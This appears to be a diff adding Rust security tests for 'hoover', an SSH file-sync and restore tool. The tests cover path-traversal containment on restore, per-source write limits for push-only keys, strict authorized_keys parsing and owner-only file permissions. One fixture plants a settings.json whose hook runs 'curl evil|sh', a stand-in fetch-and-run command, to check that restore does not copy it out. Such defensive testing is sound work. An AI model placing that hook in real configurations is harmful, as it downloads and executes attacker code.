@@ -107,11 +107,14 @@ fn changed_host_key_is_refused_before_anything_is_sent() {
 
 /// A raw protocol session over real SSH, for sending what a well-behaved client never would.
 async fn raw(world: &World) -> Conn<hoover_client::SshStream> {
+    raw_as(world, &world.identity).await
+}
+
+/// A raw protocol session with the key at `identity`.
+async fn raw_as(world: &World, identity: &Path) -> Conn<hoover_client::SshStream> {
     let addr = ServerAddr::parse(&world.server_addr()).unwrap();
     let known = world.path().join("raw_known_hosts");
-    let ssh = SshSession::connect(&addr, &world.identity, &known)
-        .await
-        .unwrap();
+    let ssh = SshSession::connect(&addr, identity, &known).await.unwrap();
     let stream = ssh.open_stream().await.unwrap();
     // Keep the SSH session alive as long as the test runs.
     std::mem::forget(ssh);
@@ -390,4 +393,343 @@ fn zstd_bomb(zeros: &[u8]) -> Vec<u8> {
     let bomb = hoover_chunk::compress(zeros);
     assert!(bomb.len() < 64 * 1024);
     bomb
+}
+
+/// `hoover restore PREFIX --to DIR` writes nothing outside DIR, whatever the keys under the
+/// same source are called (a push-only key could plant `claude../settings.json`), restores a
+/// 249-byte file name, and skips what a symbolic link would carry elsewhere, restoring the rest.
+#[test]
+fn a_tree_restore_stays_inside_its_target() {
+    let world = World::new(BIN);
+    let projects = world.path().join("projects");
+    let long_name = format!("{}.jsonl", "x".repeat(243));
+    assert_eq!(long_name.len(), 249);
+    std::fs::create_dir_all(projects.join("p")).unwrap();
+    std::fs::create_dir_all(projects.join("q")).unwrap();
+    std::fs::write(projects.join("p/a.jsonl"), b"{\"a\":1}\n").unwrap();
+    std::fs::write(projects.join("q").join(&long_name), b"{\"long\":1}\n").unwrap();
+    // A root whose name starts with the restored root's name: `laptop/claude../settings.json`.
+    let planted = world.path().join("planted");
+    std::fs::create_dir_all(&planted).unwrap();
+    std::fs::write(
+        planted.join("settings.json"),
+        b"{\"hooks\":\"curl evil|sh\"}",
+    )
+    .unwrap();
+    world.ok(&[
+        "sync",
+        "--source",
+        "laptop",
+        "--root",
+        &format!("claude={}", projects.display()),
+        "--root",
+        &format!("claude..={}", planted.display()),
+        "--include",
+        "**/*",
+    ]);
+
+    let out_dir = world.path().join("restored");
+    let to = out_dir.join("projects");
+    let out = world.run(&["restore", "laptop/claude", "--to", to.to_str().unwrap()]);
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert_eq!(out.status.code(), Some(0), "{stderr}");
+    assert!(
+        !out_dir.join("settings.json").exists(),
+        "wrote outside --to"
+    );
+    assert!(!to.join("settings.json").exists(), "restored another root");
+    assert_eq!(std::fs::read(to.join("p/a.jsonl")).unwrap(), b"{\"a\":1}\n");
+    assert_eq!(
+        std::fs::read(to.join("q").join(&long_name)).unwrap(),
+        b"{\"long\":1}\n"
+    );
+    // Nothing temporary is left behind.
+    let left: Vec<_> = hoover_testkit::files_under(&out_dir);
+    assert_eq!(left.len(), 2, "{left:?}");
+
+    // A link in the target that points elsewhere: that file is skipped, the rest restored.
+    let out_dir = world.path().join("linked");
+    let to = out_dir.join("projects");
+    let elsewhere = world.path().join("elsewhere");
+    std::fs::create_dir_all(&to).unwrap();
+    std::fs::create_dir_all(&elsewhere).unwrap();
+    std::os::unix::fs::symlink(&elsewhere, to.join("p")).unwrap();
+    let out = world.run(&["restore", "laptop/claude", "--to", to.to_str().unwrap()]);
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert_eq!(out.status.code(), Some(3), "{stderr}");
+    assert!(
+        stderr.contains("skipped laptop/claude/p/a.jsonl"),
+        "{stderr}"
+    );
+    assert!(stderr.contains("symbolic link"), "{stderr}");
+    assert!(hoover_testkit::files_under(&elsewhere).is_empty());
+    assert!(to.join("q").join(&long_name).exists(), "{stderr}");
+
+    // The prefix matches whole components: `laptop/clau` is no prefix of `laptop/claude/…`.
+    let out = world.run(&[
+        "restore",
+        "laptop/clau",
+        "--to",
+        world.path().join("none").to_str().unwrap(),
+    ]);
+    assert_eq!(out.status.code(), Some(0));
+    assert!(!world.path().join("none/de").exists());
+}
+
+fn set_authorized(world: &World, text: &str) {
+    std::fs::write(world.server_home.dir.join("authorized_keys"), text).unwrap();
+}
+
+/// A second key, made in the client's home, and its public line.
+fn second_key(world: &World, name: &str) -> (std::path::PathBuf, String) {
+    let path = world.path().join(format!("{name}/.ssh/id_ed25519"));
+    let public = make_key(&path);
+    (path, public)
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_push_only_key_writes_only_under_its_sources() {
+    let world = World::new(BIN);
+    let laptop_line =
+        std::fs::read_to_string(world.server_home.dir.join("authorized_keys")).unwrap();
+    let (mallory, mallory_public) = second_key(&world, "mallory");
+    set_authorized(
+        &world,
+        &format!(
+            "{}hoover-allow=\"push\",hoover-source=\"mallory\" {mallory_public}\n",
+            laptop_line
+        ),
+    );
+    // The laptop's own file, pushed with its full key.
+    let root = world.path().join("projects");
+    write_tree(&root);
+    let spec = format!("c={}", root.display());
+    world.ok(&["sync", "--source", "laptop", "--root", &spec]);
+
+    // Mallory pushes under the laptop's source: refused, nothing added.
+    let evil_root = world.path().join("evil");
+    std::fs::create_dir_all(evil_root.join("p")).unwrap();
+    std::fs::write(evil_root.join("p/a.jsonl"), b"{\"planted\":1}\n").unwrap();
+    let evil_spec = format!("c={}", evil_root.display());
+    let mallory_arg = mallory.to_str().unwrap();
+    let out = world.run(&[
+        "sync",
+        "--identity",
+        mallory_arg,
+        "--source",
+        "laptop",
+        "--root",
+        &evil_spec,
+    ]);
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert!(!out.status.success(), "{stderr}");
+    assert!(
+        stderr.contains("may write only under the sources mallory"),
+        "{stderr}"
+    );
+    let versions = world.json(&["versions", "laptop/c/p/a.jsonl"]);
+    assert_eq!(versions.as_array().unwrap().len(), 1, "{versions}");
+    // A deletion under another source is refused too.
+    let mut c = raw_as(&world, &mallory).await;
+    c.send(&Request::Deleted {
+        key: "laptop/c/p/a.jsonl".into(),
+        at_ns: 1,
+    })
+    .await
+    .unwrap();
+    let m = expect_error(&mut c, ErrorCode::Forbidden).await;
+    assert!(m.contains("hoover-source"), "{m}");
+    let versions = world.json(&["versions", "laptop/c/p/a.jsonl"]);
+    assert!(versions[0]["deleted_at"].is_null(), "{versions}");
+    // Under its own source it pushes as before.
+    world.ok(&[
+        "sync",
+        "--identity",
+        mallory_arg,
+        "--source",
+        "mallory",
+        "--root",
+        &evil_spec,
+    ]);
+    let listing = world.json(&["ls"]);
+    assert_eq!(listing.as_array().unwrap().len(), 2, "{listing}");
+
+    // A push-only key with no hoover-source is refused when the file is read, naming its line.
+    set_authorized(
+        &world,
+        &format!("{laptop_line}hoover-allow=\"push\" {mallory_public}\n"),
+    );
+    let out = world.run(&[
+        "sync",
+        "--identity",
+        mallory_arg,
+        "--source",
+        "mallory",
+        "--root",
+        &evil_spec,
+    ]);
+    assert_eq!(out.status.code(), Some(1));
+    assert!(String::from_utf8_lossy(&out.stderr).contains("refused the key"));
+    assert!(
+        world
+            .server
+            .log()
+            .contains("authorized_keys:2: refused this line: a push-only key"),
+        "{}",
+        world.server.log()
+    );
+    // And a source with '/' is refused by the client before it connects.
+    let out = world.run(&["sync", "--source", "a/b", "--root", &spec]);
+    assert_eq!(out.status.code(), Some(1));
+    assert!(String::from_utf8_lossy(&out.stderr).contains("without '/'"));
+}
+
+#[test]
+fn authorized_keys_fails_closed_line_by_line() {
+    let world = World::new(BIN);
+    let good = std::fs::read_to_string(world.server_home.dir.join("authorized_keys")).unwrap();
+    let keys: Vec<(std::path::PathBuf, String)> = ["unquoted", "command", "far", "near", "upper"]
+        .iter()
+        .map(|n| second_key(&world, n))
+        .collect();
+    set_authorized(
+        &world,
+        &format!(
+            "this line is not a key\n\
+             hoover-allow=push {}\n\
+             command=\"/bin/true\" {}\n\
+             from=\"10.0.0.0/8,192.0.2.*\" {}\n\
+             from=\"127.0.0.0/8,!127.0.0.2\",restrict {}\n\
+             HOOVER-ALLOW=\"push\",hoover-source=\"x\" {}\n\
+             {good}",
+            keys[0].1, keys[1].1, keys[2].1, keys[3].1, keys[4].1
+        ),
+    );
+    let ls = |identity: &Path| world.run(&["ls", "--identity", identity.to_str().unwrap()]);
+    // Today's main read `hoover-allow=push` unquoted, and HOOVER-ALLOW, as full access.
+    for (i, why) in [(0, "double quotes"), (1, "not one hoover implements")] {
+        let out = ls(&keys[i].0);
+        assert_eq!(out.status.code(), Some(1), "key {i} got in");
+        assert!(String::from_utf8_lossy(&out.stderr).contains("refused the key"));
+        assert!(world.server.log().contains(why), "{why}");
+    }
+    // from= that the peer (127.0.0.1) does not match.
+    assert_eq!(ls(&keys[2].0).status.code(), Some(1));
+    assert!(world
+        .server
+        .log()
+        .contains("does not match its from= patterns"));
+    // from= that it matches, with `restrict`; and a bad first line does not stop the others.
+    assert!(ls(&keys[3].0).status.success());
+    assert!(ls(&world.identity).status.success());
+    let out = ls(&keys[4].0);
+    assert!(String::from_utf8_lossy(&out.stderr).contains("may only push"));
+    assert!(world
+        .server
+        .log()
+        .contains("authorized_keys:1: refused this line"));
+
+    // Writable by others: every key refused, as sshd does.
+    use std::os::unix::fs::PermissionsExt;
+    let path = world.server_home.dir.join("authorized_keys");
+    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o666)).unwrap();
+    assert_eq!(ls(&world.identity).status.code(), Some(1));
+    assert!(world.server.log().contains("writable by group or others"));
+    // ... and a server will not start on such a file.
+    let opts = world.server_options(0);
+    let out = std::process::Command::new(BIN)
+        .args(opts.serve_args())
+        .env("HOME", &world.server_home.dir)
+        .output()
+        .unwrap();
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert!(!out.status.success(), "{stderr}");
+    assert!(stderr.contains("writable by group or others"), "{stderr}");
+}
+
+/// Every file mode under `dir` (itself included), as (path, mode) for those others can use.
+fn open_to_others(dir: &Path) -> Vec<(String, u32)> {
+    use std::os::unix::fs::PermissionsExt;
+    let mut open = Vec::new();
+    for entry in walkdir::WalkDir::new(dir) {
+        let entry = entry.unwrap();
+        let mode = entry.metadata().unwrap().permissions().mode() & 0o777;
+        if mode & 0o077 != 0 && !entry.file_type().is_symlink() {
+            open.push((entry.path().display().to_string(), mode));
+        }
+    }
+    open
+}
+
+/// Run by hand under a loose umask, hoover still creates its store, keys, client state and
+/// restored files owner-only: no other local user can read a chat.
+#[test]
+fn everything_hoover_creates_is_owner_only_whatever_the_umask() {
+    let mut world = World::new(BIN);
+    let wrapper = world.path().join("hoover-umask-0");
+    std::fs::write(
+        &wrapper,
+        format!("#!/bin/sh\numask 000\nexec '{BIN}' \"$@\"\n"),
+    )
+    .unwrap();
+    use std::os::unix::fs::PermissionsExt;
+    std::fs::set_permissions(&wrapper, std::fs::Permissions::from_mode(0o700)).unwrap();
+    // A fresh store and host key, made by a server started under umask 000.
+    let store = world.path().join("loose-store");
+    world.restart_server_with(|o| {
+        o.bin = wrapper.clone();
+        o.store = store.clone();
+        o.host_key = world_host_key(o);
+    });
+    let root = world.path().join("projects");
+    write_tree(&root);
+    let run = |args: &[&str]| {
+        let mut cmd = std::process::Command::new(&wrapper);
+        world.client_home.apply(&mut cmd);
+        cmd.args(args)
+            .args(["--server", &world.server_addr()])
+            .output()
+            .unwrap()
+    };
+    let out = run(&["sync", "--root", &format!("c={}", root.display())]);
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let restored = world.path().join("restored.jsonl");
+    let key = format!("{}/c/p/a.jsonl", hoover_host_source(&world));
+    let out = run(&["restore", &key, "-o", restored.to_str().unwrap()]);
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    assert_eq!(open_to_others(&store), vec![], "store");
+    assert_eq!(open_to_others(&restored), vec![], "restored file");
+    let client_data = world.client_home.dir.join(".local/share/hoover");
+    assert!(client_data.exists());
+    assert_eq!(open_to_others(&client_data), vec![], "client state");
+    let host_key = world.server_home.dir.join("loose_host_key");
+    assert_eq!(open_to_others(&host_key), vec![], "host key");
+
+    // A store made before this change (0755) is closed on its next open.
+    world.server.kill();
+    std::fs::set_permissions(&store, std::fs::Permissions::from_mode(0o755)).unwrap();
+    world.restart_server_with(|o| {
+        o.store = store.clone();
+        o.host_key = world_host_key(o);
+    });
+    assert_eq!(open_to_others(&store), vec![], "an old store reopened");
+}
+
+fn world_host_key(o: &hoover_testkit::ServerOptions) -> std::path::PathBuf {
+    o.home.join("loose_host_key")
+}
+
+/// The source a client uses when none is given: the host name.
+fn hoover_host_source(world: &World) -> String {
+    let listing = world.json(&["ls"]);
+    let key = listing[0]["key"].as_str().unwrap().to_string();
+    key.split('/').next().unwrap().to_string()
 }
